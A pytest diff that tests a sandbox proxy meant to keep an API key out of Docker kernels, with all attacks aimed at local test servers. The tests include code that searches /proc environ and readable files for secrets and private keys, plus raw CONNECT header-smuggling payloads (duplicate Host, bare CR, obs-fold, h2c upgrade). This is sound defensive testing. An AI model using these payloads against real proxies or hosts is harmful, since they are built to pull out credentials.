@@ -1,0 +1,353 @@
+"""Secrets that never enter the sandbox, for real: Docker kernels, the launcher's proxy, HTTPS servers on
+127.0.0.1 (:mod:`secrets_kit`).
+
+The kernel holds a placeholder in ``API_KEY``; the proxy puts the value in the headers of requests
+to ``api.test`` (its TLS answered with the kernel's own CA, the real server verified with the test
+CA the host trusts) and nowhere else. Every test checks what the servers received on the host.
+"""
+
+from __future__ import annotations
+
+import pickle
+from collections.abc import Iterator
+
+import pytest
+
+from kernel_sandbox.errors import ConfigError
+from kernel_sandbox.execution import Sandbox, Secret
+from secrets_kit import Servers, serve
+
+pytestmark = pytest.mark.security("attack", "egress")
+
+VALUE = "sk-test-Zq8vX1-real-value-that-must-stay-on-the-host"
+OTHER_VALUE = "sk-test-other-kernel-value-0000000000000000"
+
+REQUEST = """
+import os, ssl, urllib.request
+req = urllib.request.Request({url!r}, data={data}, headers={headers})
+context = None if {verify} else ssl._create_unverified_context()
+try:
+    answer = urllib.request.urlopen(req, timeout=30, context=context)
+    print(answer.status, answer.read().decode())
+except Exception as exc:
+    print('refused', getattr(exc, 'code', None), exc)
+"""
+
+RAW = """
+import os, socket, ssl, time
+def raw(connect, parts, tls=True, context=None):
+    sock = socket.create_connection(('127.0.0.1', 20080), timeout=20)
+    sock.sendall(f'CONNECT {connect} HTTP/1.1\\r\\nHost: {connect}\\r\\n\\r\\n'.encode())
+    head = b''
+    while b'\\r\\n\\r\\n' not in head:
+        head += sock.recv(1)
+    if not head.startswith(b'HTTP/1.1 200'):
+        return head.decode(errors='replace').splitlines()[0]
+    if tls:
+        try:
+            sock = (context or ssl.create_default_context()).wrap_socket(sock, server_hostname=connect.split(':')[0])
+        except ssl.SSLError as exc:
+            return repr(exc)
+    for part in parts:
+        sock.sendall(part)
+        time.sleep(0.2)
+    out = b''
+    try:
+        while data := sock.recv(65536):
+            out += data
+    except Exception as exc:
+        out += repr(exc).encode()
+    return out.decode(errors='replace')
+"""
+
+
+@pytest.fixture(scope="module")
+def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
+    with serve(tmp_path_factory.mktemp("secrets")) as running:
+        yield running
+        assert running.guard_fired == []
+
+
+def secret_for(servers: Servers, value: str = VALUE) -> Secret:
+    return Secret(
+        value,
+        hosts=[
+            f"api.test:{servers.tls_port}",
+            f"forged.test:{servers.forged_port}",
+            f"api.test:{servers.sniff_port}",
+        ],
+    )
+
+
+@pytest.fixture(scope="module")
+def sandbox(docker_engine, servers: Servers) -> Iterator[Sandbox]:
+    with Sandbox(
+        network=servers.network(), secrets={"API_KEY": secret_for(servers)}, timeout=120
+    ) as sb:
+        yield sb
+
+
+def fetch(
+    sb: Sandbox,
+    url: str,
+    *,
+    data: str = "None",
+    headers: str = "{'Authorization': 'Bearer ' + os.environ['API_KEY']}",
+    verify: bool = True,
+) -> str:
+    """Request ``url`` from the kernel (``verify``: with its default trust; else the kernel checks no
+    certificate, as for the test servers' own names, which only the host trusts)."""
+    return sb.run(REQUEST.format(url=url, data=data, headers=headers, verify=verify)).stdout
+
+
+def placeholder(sb: Sandbox) -> str:
+    return sb.run("import os; print(os.environ['API_KEY'])").stdout.strip()
+
+
+def test_the_bound_host_receives_the_value_and_the_kernel_only_a_placeholder(
+    sandbox: Sandbox, servers: Servers
+) -> None:
+    """A request from the kernel to the bound host carries the value; the kernel never had it."""
+    before = len(servers.requests)
+    out = fetch(sandbox, f"https://api.test:{servers.tls_port}/echo")
+    assert out.startswith("200 ok"), out
+    got = servers.requests[before]
+    assert ["Authorization", f"Bearer {VALUE}"] in got["headers"]
+    token = placeholder(sandbox)
+    assert token != VALUE and len(token) >= len(VALUE) and VALUE not in out
+
+
+def test_the_value_is_not_in_the_kernel_its_files_or_a_checkpoint(
+    sandbox: Sandbox, servers: Servers, capfd
+) -> None:
+    """The kernel's environment, /proc/*/environ, every file it can read, a checkpoint blob and the
+    launcher's output hold no trace of the value (nor any private key)."""
+    fetch(sandbox, f"https://api.test:{servers.tls_port}/echo")
+    search = f"""
+def search():
+    import os
+    value = {VALUE[::-1]!r}[::-1].encode()  # the code is kept in the kernel's history: not the value
+    found = []
+    if value in repr(dict(os.environ)).encode(): found.append('os.environ')
+    paths = [f'/proc/{{pid}}/{{name}}' for pid in os.listdir('/proc') if pid.isdigit() for name in ('environ', 'cmdline')]
+    for root in ['/tmp', '/home', os.getcwd(), '/etc', '/dev/shm']:
+        paths += [os.path.join(top, name) for top, _, files in os.walk(root) for name in files]
+    for path in paths:
+        try:
+            with open(path, 'rb') as handle: data = handle.read(1 << 22)
+        except OSError: continue
+        if value in data or b'PRIVATE' + b' KEY-----' in data: found.append(path)
+    print('found', found, len(paths) > 10)
+search()
+del search
+"""
+    result = sandbox.run(search)
+    assert result.stdout.strip() == "found [] True", result.error
+    sandbox.run("import os; token = os.environ['API_KEY']")
+    assert VALUE.encode() not in sandbox.checkpoint().data
+    out, err = capfd.readouterr()
+    assert VALUE not in out + err
+
+
+def test_the_placeholder_goes_nowhere_else(sandbox: Sandbox, servers: Servers) -> None:
+    """The placeholder sent to another listed host, in a body, in a URL path, over plain HTTP to a bound
+    host: the value is never sent."""
+    token = placeholder(sandbox)
+    before = len(servers.requests)
+    fetch(sandbox, f"https://other.test:{servers.tls_port}/echo", verify=False)
+    fetch(
+        sandbox,
+        f"https://api.test:{servers.tls_port}/echo",
+        data="os.environ['API_KEY'].encode()",
+        headers="{}",
+    )
+    fetch(sandbox, f"https://api.test:{servers.tls_port}/path/" + token, headers="{}")
+    fetch(sandbox, f"http://api.test:{servers.sniff_port}/plain")
+    new = servers.requests[before:]
+    assert VALUE not in str(new) and VALUE.encode() not in b"".join(servers.sniffed)
+    assert ["Authorization", f"Bearer {token}"] in new[0]["headers"]
+    assert new[1]["body"] == token and new[2]["path"] == "/path/" + token
+    assert token.encode() in b"".join(servers.sniffed)
+
+
+def test_a_redirect_to_another_host_is_never_followed_with_the_value(
+    sandbox: Sandbox, servers: Servers
+) -> None:
+    """The bound host redirects to another host: the proxy passes the redirect back; the kernel's own
+    follow-up carries the placeholder."""
+    before = len(servers.requests)
+    fetch(sandbox, f"https://api.test:{servers.tls_port}/redirect", verify=False)
+    new = servers.requests[before:]
+    assert [r["path"] for r in new] == ["/redirect", "/echo"]
+    assert ["Authorization", f"Bearer {VALUE}"] in new[0]["headers"]
+    assert (
+        VALUE not in str(new[1]) and ["Host", f"other.test:{servers.tls_port}"] in new[1]["headers"]
+    )
+
+
+def test_a_host_that_fails_verification_gets_nothing(sandbox: Sandbox, servers: Servers) -> None:
+    """A bound host whose certificate chain the host does not trust: refused naming it, nothing sent."""
+    before = len(servers.requests)
+    out = fetch(sandbox, f"https://forged.test:{servers.forged_port}/echo")
+    assert "forged.test" in out and "did not verify" in out, out
+    assert len(servers.requests) == before
+
+
+def test_a_tunnel_with_the_kernels_own_tls_never_gets_the_value(
+    sandbox: Sandbox, servers: Servers
+) -> None:
+    """CONNECT by hand with TLS that trusts only the public CAs: the handshake with the proxy fails;
+    to an unbound listed name the tunnel is spliced and the placeholder arrives as it was."""
+    head = f"GET /hand HTTP/1.1\r\nHost: api.test:{servers.tls_port}\r\nAuthorization: Bearer {{os.environ['API_KEY']}}\r\nConnection: close\r\n\r\n"
+    code = (
+        RAW
+        + f"""
+import ssl
+public = ssl.create_default_context(cafile='/etc/ssl/certs/ca-certificates.crt')
+print(raw('api.test:{servers.tls_port}', [f{head!r}.encode()], context=public))
+"""
+    )
+    out = sandbox.run(code).stdout
+    assert "CERTIFICATE_VERIFY_FAILED" in out or "SSLCertVerificationError" in out, out
+    assert not any(r["path"] == "/hand" for r in servers.requests)
+
+
+def smuggle(
+    sandbox: Sandbox, servers: Servers, parts: list[str], connect: str | None = None
+) -> str:
+    """Send ``parts`` (f-strings evaluated in the kernel) one write each through a CONNECT the kernel
+    opens by hand; a name without a secret is spliced, so its server's certificate is not checked."""
+    connect = connect or f"api.test:{servers.tls_port}"
+    context = "None" if connect.startswith("api.test") else "ssl._create_unverified_context()"
+    code = RAW + "\nprint(raw({connect!r}, [{parts}], context={context}))".format(
+        connect=connect, parts=", ".join(f"f{part!r}.encode()" for part in parts), context=context
+    )
+    return sandbox.run(code).stdout
+
+
+def test_header_smuggling_gets_nothing(sandbox: Sandbox, servers: Servers) -> None:
+    """Duplicate Host headers, a bare CR in a value, obs-fold, a Host naming another host than the CONNECT,
+    a Host naming the bound host inside another host's tunnel: never the value elsewhere, never a second
+    request."""
+    port = servers.tls_port
+    auth = "Authorization: Bearer {os.environ['API_KEY']}\r\n"
+    before = len(servers.requests)
+    dup = smuggle(
+        sandbox,
+        servers,
+        [f"GET /dup HTTP/1.1\r\nHost: api.test:{port}\r\nHost: other.test:{port}\r\n{auth}\r\n"],
+    )
+    cr = smuggle(
+        sandbox,
+        servers,
+        [f"GET /cr HTTP/1.1\r\nHost: api.test:{port}\r\nX-A: a\rGET /x\r\n{auth}\r\n"],
+    )
+    folded = smuggle(
+        sandbox,
+        servers,
+        [
+            f"GET /fold HTTP/1.1\r\nHost: api.test:{port}\r\nX-A: a\r\n X-Injected: b\r\n{auth}Connection: close\r\n\r\n"
+        ],
+    )
+    other = smuggle(
+        sandbox, servers, [f"GET /other HTTP/1.1\r\nHost: other.test:{port}\r\n{auth}\r\n"]
+    )
+    inside = smuggle(
+        sandbox,
+        servers,
+        [f"GET /inside HTTP/1.1\r\nHost: api.test:{port}\r\n{auth}Connection: close\r\n\r\n"],
+        connect=f"other.test:{port}",
+    )
+    assert dup.startswith("HTTP/1.1 4") and cr.startswith("HTTP/1.1 4"), (dup, cr)
+    assert other.startswith("HTTP/1.1 421"), other
+    assert folded.startswith("HTTP/1.1 "), folded  # unfolded into one header, or refused
+    new = servers.requests[before:]
+    assert {r["path"] for r in new} <= {"/fold", "/inside"}, new
+    assert all("X-Injected" not in [k for k, _ in r["headers"]] for r in new)
+    inside_request = [r for r in new if r["path"] == "/inside"]
+    assert inside_request and VALUE not in str(inside_request), inside
+    assert VALUE not in str([r for r in new if r["path"] != "/fold"])
+
+
+def test_upgrade_and_expect_are_handled_by_the_proxy(sandbox: Sandbox, servers: Servers) -> None:
+    """An HTTP/2 upgrade attempt goes out as plain HTTP/1.1 (no Upgrade header); Expect: 100-continue
+    is answered by the proxy and the body follows."""
+    port = servers.tls_port
+    auth = "Authorization: Bearer {os.environ['API_KEY']}\r\n"
+    before = len(servers.requests)
+    upgrade = smuggle(
+        sandbox,
+        servers,
+        [
+            f"GET /h2c HTTP/1.1\r\nHost: api.test:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n{auth}Connection: close\r\n\r\n"
+        ],
+    )
+    expect = smuggle(
+        sandbox,
+        servers,
+        [
+            f"POST /expect HTTP/1.1\r\nHost: api.test:{port}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n{auth}Connection: close\r\n\r\n",
+            "hello",
+        ],
+    )
+    assert upgrade.startswith("HTTP/1.1 200") and "101" not in upgrade.splitlines()[0], upgrade
+    assert expect.startswith("HTTP/1.1 100") and "HTTP/1.1 200" in expect, expect
+    new = {r["path"]: r for r in servers.requests[before:]}
+    assert {k.lower() for k, _ in new["/h2c"]["headers"]}.isdisjoint({"upgrade", "http2-settings"})
+    assert new["/expect"]["body"] == "hello"
+    assert "expect" not in {k.lower() for k, _ in new["/expect"]["headers"]}
+
+
+def test_a_placeholder_split_across_two_writes_is_still_filled_in_only_for_the_bound_host(
+    sandbox: Sandbox, servers: Servers
+) -> None:
+    """The head arrives in two writes cut inside the placeholder: the bound host gets the value."""
+    port = servers.tls_port
+    before = len(servers.requests)
+    token = placeholder(sandbox)
+    half = len(token) // 2
+    out = smuggle(
+        sandbox,
+        servers,
+        [
+            f"GET /split HTTP/1.1\r\nHost: api.test:{port}\r\nAuthorization: Bearer {{os.environ['API_KEY'][:{half}]}}",
+            f"{{os.environ['API_KEY'][{half}:]}}\r\nConnection: close\r\n\r\n",
+        ],
+    )
+    assert out.startswith("HTTP/1.1 200"), out
+    assert ["Authorization", f"Bearer {VALUE}"] in servers.requests[before]["headers"]
+
+
+def test_another_kernels_placeholder_gets_nothing(
+    docker_engine, sandbox: Sandbox, servers: Servers
+) -> None:
+    """Each kernel has its own placeholder: one kernel replaying another's sends that placeholder, not
+    either value."""
+    with Sandbox(
+        network=servers.network(),
+        secrets={"API_KEY": secret_for(servers, OTHER_VALUE)},
+        timeout=120,
+    ) as other:
+        mine, theirs = placeholder(sandbox), placeholder(other)
+        assert mine != theirs
+        before = len(servers.requests)
+        fetch(
+            other,
+            f"https://api.test:{servers.tls_port}/replay",
+            headers=f"{{'Authorization': 'Bearer {mine}'}}",
+        )
+        got = servers.requests[before]
+        assert ["Authorization", f"Bearer {mine}"] in got["headers"]
+        assert VALUE not in str(got) and OTHER_VALUE not in str(got)
+
+
+def test_a_secret_never_shows_its_value() -> None:
+    """Secret's repr, str and pickling never show the value; a bare string is refused."""
+    secret = Secret(VALUE, hosts=["api.openai.com"])
+    assert VALUE not in repr(secret) + str(secret) + repr([secret])
+    with pytest.raises(TypeError):
+        pickle.dumps(secret)
+    with pytest.raises(ConfigError, match="must be a Secret"):
+        Sandbox(secrets={"API_KEY": VALUE})
+    with pytest.raises(ConfigError, match="opensandbox"):
+        Sandbox("opensandbox", secrets={"API_KEY": secret}, api_base="http://127.0.0.1:1")
